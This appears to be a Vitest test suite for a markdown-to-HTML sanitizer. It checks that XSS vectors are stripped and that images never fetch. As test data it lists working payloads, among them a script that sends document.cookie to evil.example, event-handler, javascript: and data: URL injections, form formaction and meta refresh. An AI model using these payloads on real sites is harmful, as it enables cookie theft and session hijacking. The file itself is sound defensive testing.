import { describe, expect, it } from "vitest";
import { renderMarkdown, safeHttpUrl } from "./render-markdown";

// Every attribute name in the output (lower-cased), for allow-list assertions.
function attributeNames(html: string): Set<string> {
  const names = new Set<string>();
  for (const tag of html.matchAll(
    /<[a-z][a-z0-9]*((?:\s+[^\s=/>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?)*)\s*\/?>/gi,
  )) {
    for (const attr of tag[1].matchAll(/\s+([^\s=/>]+)(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+))?/g))
      names.add(attr[1].toLowerCase());
  }
  return names;
}

function expectNoActiveContent(html: string) {
  expect(html).not.toMatch(/<script/i);
  expect(html).not.toMatch(/<iframe/i);
  expect(html).not.toMatch(/<object|<embed|<svg|<math|<form|<style|<base|<meta|<link/i);
  // Dangerous schemes may survive as harmless text, never inside a tag.
  expect(html).not.toMatch(/<[^>]*javascript:/i);
  expect(html).not.toMatch(/<[^>]*vbscript:/i);
  expect(html).not.toMatch(/<[^>]*data:/i);
  for (const name of attributeNames(html)) {
    expect(name, "event handler attribute").not.toMatch(/^on/);
    expect(["style", "id", "name", "srcdoc", "formaction", "action", "xlink:href"]).not.toContain(
      name,
    );
  }
}

describe("renderMarkdown: XSS vectors are removed", () => {
  const vectors: [string, string][] = [
    ["script tag", "hello <script>alert(document.cookie)</script> world"],
    [
      "script tag split over lines",
      "<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>",
    ],
    ["img onerror", '<img src=x onerror="alert(1)">'],
    [
      "img onerror with valid src",
      '<img src="https://example.com/a.png" onerror="alert(1)" onload=alert(2)>',
    ],
    ["markdown javascript: link", "[click me](javascript:alert(1))"],
    ["mixed-case javascript: link", '<a href="JaVaScRiPt:alert(1)">click</a>'],
    ["entity-obfuscated javascript: link", '<a href="jav&#x09;ascript:alert(1)">click</a>'],
    ["whitespace-prefixed javascript: link", '<a href="  javascript:alert(1)">click</a>'],
    ["vbscript link", '<a href="vbscript:msgbox(1)">click</a>'],
    ["iframe", '<iframe src="https://evil.example" onload="alert(1)"></iframe>'],
    ["iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ["data: link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
    ["data: image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"],
    [
      "raw html with handlers and style",
      '<div onclick="steal()" style="position:fixed;inset:0">overlay</div>',
    ],
    ["svg onload", '<svg onload="alert(1)"><circle r="5"/></svg>'],
    [
      "object / embed",
      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    ],
    [
      "form with formaction",
      '<form action="https://evil.example"><button formaction="javascript:alert(1)">go</button></form>',
    ],
    ["style tag", "<style>body { display: none }</style>text"],
    [
      "base / meta refresh",
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
    ],
    ["math xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
    [
      "dom clobbering id",
      '<img id="currentUser" name="currentUser" src="https://example.com/a.png">',
    ],
    ["autolink javascript", "<javascript:alert(1)>"],
    ["reference-style javascript link", "[x][evil]\n\n[evil]: javascript:alert(1)"],
  ];

  for (const [name, input] of vectors) {
    it(name, () => expectNoActiveContent(renderMarkdown(input)));
  }

  it("drops script contents rather than showing them as text", () => {
    const html = renderMarkdown("before <script>alert('pwned')</script> after");
    expect(html).not.toContain("pwned");
    expect(html).toContain("before");
    expect(html).toContain("after");
  });

  it("keeps the visible text of an unsafe link but not the link", () => {
    const html = renderMarkdown("[click me](javascript:alert(1))");
    expect(html).toContain("click me");
    expect(html).not.toMatch(/<a\s/);
  });

  it("drops images whose source is not absolute http(s)", () => {
    for (const src of ["x", "/api/items/1", "//evil.example/a.png", "javascript:alert(1)"]) {
      const html = renderMarkdown(`![alt](${src})`);
      expect(html, src).not.toMatch(/<img/);
      expect(html, src).not.toContain("external-image");
    }
  });

  it("removes non-highlighting classes from raw html", () => {
    const html = renderMarkdown('<span class="fixed inset-0 z-50 hljs-keyword">x</span>');
    expect(html).toContain('class="hljs-keyword"');
    expect(html).not.toContain("inset-0");
  });

  it("only allows known attributes", () => {
    const html = renderMarkdown(
      '<p align="center" title="t" data-x="1" aria-hidden="true"><a href="https://example.com" ping="https://evil" download>x</a></p>' +
        "\n\n- [x] task\n\n| a | b |\n|:-|-:|\n| 1 | 2 |",
    );
    const allowed = new Set([
      "align",
      "href",
      "target",
      "rel",
      "type",
      "checked",
      "disabled",
      "class",
      "title",
      "src",
      "alt",
      "aria-label",
      "tabindex",
    ]);
    for (const name of attributeNames(html)) expect(allowed.has(name), name).toBe(true);
    expect(html).not.toContain("ping");
    expect(html).not.toContain("download");
  });

  it("forces task-list checkboxes to be disabled checkboxes", () => {
    const html = renderMarkdown('<input type="text" value="secret" onfocus="x()" autofocus>');
    expect(html).not.toContain("text");
    expect(html).not.toContain("secret");
    expect(html).not.toContain("autofocus");
  });
});

describe("renderMarkdown: normal markdown", () => {
  it("renders headings, emphasis and lists", () => {
    const html = renderMarkdown(
      "# Title\n\n## Sub\n\nSome **bold** and _em_.\n\n- one\n- two\n\n1. first\n2. second",
    );
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain("<h2>Sub</h2>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<em>em</em>");
    expect(html).toMatch(/<ul>\s*<li>one<\/li>\s*<li>two<\/li>\s*<\/ul>/);
    expect(html).toMatch(/<ol>\s*<li>first<\/li>/);
  });

  it("renders links with safe rel and target", () => {
    const html = renderMarkdown('See [the docs](https://example.com/docs?a=1&b=2 "Docs").');
    expect(html).toContain('href="https://example.com/docs?a=1&amp;b=2"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('title="Docs"');
  });

  it("adds rel and target to raw html links too, overriding the author's", () => {
    const html = renderMarkdown('<a href="https://example.com" target="_self" rel="opener">x</a>');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).not.toContain("_self");
  });

  it("autolinks bare URLs (GFM)", () => {
    expect(renderMarkdown("visit https://example.org now")).toMatch(
      /<a href="https:\/\/example\.org\/?"[^>]*>https:\/\/example\.org<\/a>/,
    );
  });

  it("highlights fenced code in a known language", () => {
    const html = renderMarkdown("```Java\npublic class A { /* c */ }\n```");
    expect(html).toContain('<code class="hljs language-java">');
    expect(html).toContain('<span class="hljs-keyword">public</span>');
    expect(html).toContain('<span class="hljs-comment">/* c */</span>');
  });

  it("escapes fenced code in an unknown language", () => {
    const html = renderMarkdown("```brainfart\n<b>not bold</b> & more\n```");
    expect(html).toContain("&lt;b&gt;not bold&lt;/b&gt; &amp; more");
    expect(html).not.toContain("<b>");
  });

  it("escapes html inside fenced code in a known language", () => {
    const html = renderMarkdown("```js\nconst s = '<script>alert(1)</script>';\n```");
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain("&lt;script&gt;");
  });

  it("makes code blocks and tables tab stops (they scroll sideways); the content sets no tab order", () => {
    const html = renderMarkdown(
      '```js\nlet x = 1;\n```\n\n<pre tabindex="-1">raw</pre>\n\n<p tabindex="3">p</p>\n\n<table tabindex="9"><tr><td>1</td></tr></table>',
    );
    expect(html.match(/<pre[^>]*>/g)).toEqual(['<pre tabindex="0">', '<pre tabindex="0">']);
    expect(html).toContain('<table tabindex="0">');
    expect(html).not.toMatch(/tabindex="(-1|3|9)"/);
  });

  it("renders GFM tables and strikethrough", () => {
    const html = renderMarkdown("| a | b |\n|:--|--:|\n| 1 | 2 |\n\n~~gone~~");
    expect(html).toContain('<table tabindex="0">');
    expect(html).toContain('<th align="left">a</th>');
    expect(html).toContain('<td align="right">2</td>');
    expect(html).toContain("<del>gone</del>");
  });

  it("renders task lists as disabled checkboxes", () => {
    const html = renderMarkdown("- [x] done\n- [ ] todo");
    expect(html).toMatch(/<input type="checkbox" disabled(="")? checked(="")?[^>]*>\s*done/);
    expect(html).toMatch(/<input type="checkbox" disabled(="")?(?! checked)[^>]*>\s*todo/);
  });

  it("names each task-list checkbox by its state (axe: form elements must have labels)", () => {
    const html = renderMarkdown('- [x] done\n- [ ] todo\n\n<input aria-label="injected" checked>');
    expect(html).toMatch(/<input[^>]*checked[^>]*aria-label="Done"[^>]*>\s*done/);
    expect(html).toMatch(/<input[^>]*aria-label="Not done"[^>]*>\s*todo/);
    expect(html).not.toContain("injected");
  });

  it("keeps CJK, Cyrillic and Greek text verbatim", () => {
    const text = "这是一个测试。日本語のテキスト、한국어 문장. Привет, мир! Καλημέρα κόσμε.";
    const html = renderMarkdown(`# 标题\n\n${text}`);
    expect(html).toContain("<h1>标题</h1>");
    expect(html).toContain(text);
  });

  it("keeps safe raw html used by READMEs", () => {
    const html = renderMarkdown(
      "<details><summary>More</summary>\n\nHidden <kbd>Ctrl</kbd>\n\n</details>",
    );
    expect(html).toContain("<details>");
    expect(html).toContain("<summary>More</summary>");
    expect(html).toContain("<kbd>Ctrl</kbd>");
  });

  it("handles empty input", () => {
    expect(renderMarkdown("")).toBe("");
  });
});

describe("safeHttpUrl", () => {
  it("accepts only absolute http(s) URLs", () => {
    expect(safeHttpUrl("https://example.com/a")?.host).toBe("example.com");
    expect(safeHttpUrl(" HTTP://Example.com ")?.protocol).toBe("http:");
    for (const bad of [
      "javascript:alert(1)",
      "data:text/html,x",
      "//example.com",
      "/relative",
      "ftp://x",
      "https://",
      "",
      null,
    ]) {
      expect(safeHttpUrl(bad), String(bad)).toBeNull();
    }
  });
});

// SPEC §7: item content never makes the browser fetch another site (a README image is a beacon).
describe("renderMarkdown: images are placeholders, never fetched", () => {
  const fetchingMarkup =
    /<img|<source|<video|<audio|<link|srcset|background|url\(|<input[^>]*type="?image/i;

  it("a markdown image shows its URL as text", () => {
    const html = renderMarkdown("![build status](https://ci.example/badge.svg?user=42)");
    expect(html).not.toMatch(fetchingMarkup);
    expect(html).toContain('<span class="external-image"');
    expect(html).toContain("https://ci.example/badge.svg?user=42");
    expect(html).toContain("build status");
  });

  it("a raw html image, also inside <picture> with a srcset, shows its URL as text", () => {
    const html = renderMarkdown(
      '<picture><source srcset="https://evil.example/a.png 2x"><img src="https://evil.example/b.png" srcset="https://evil.example/c.png 2x" alt="x"></picture>',
    );
    expect(html).not.toMatch(fetchingMarkup);
    expect(html).toContain("https://evil.example/b.png");
  });

  it("an image inside a link stays a placeholder inside the link", () => {
    const html = renderMarkdown("[![ci](https://ci.example/b.svg)](https://ci.example/run/1)");
    expect(html).not.toMatch(fetchingMarkup);
    expect(html).toMatch(
      /<a href="https:\/\/ci\.example\/run\/1"[^>]*><span class="external-image"/,
    );
  });

  it("a data: image is a placeholder without its (possibly huge) payload", () => {
    const html = renderMarkdown(
      "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
    );
    expect(html).not.toMatch(/<img/);
    expect(html).toContain("external-image");
    expect(html).not.toContain("iVBORw0KGgo");
  });

  it("the URL and alt text are escaped, not markup", () => {
    const html = renderMarkdown(
      '<img src="https://e.example/a.png?q=&quot;><script>alert(1)</script>" alt="<b>x</b>">',
    );
    expect(html).not.toMatch(/<script|<b>/);
    expect(html).toContain("external-image");
  });

  it("nothing else in item markup can fetch: style attributes, <link>, <video>, <audio>, <input type=image>", () => {
    const html = renderMarkdown(
      [
        '<div style="background:url(https://evil.example/a.png)">a</div>',
        '<link rel="stylesheet" href="https://evil.example/s.css">',
        '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
        '<audio src="https://evil.example/a.mp3"></audio>',
        '<input type="image" src="https://evil.example/i.png">',
        '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/t.png">x</td></tr></table>',
      ].join("\n\n"),
    );
    expect(html).not.toMatch(fetchingMarkup);
    expect(html).not.toContain("evil.example");
  });
});
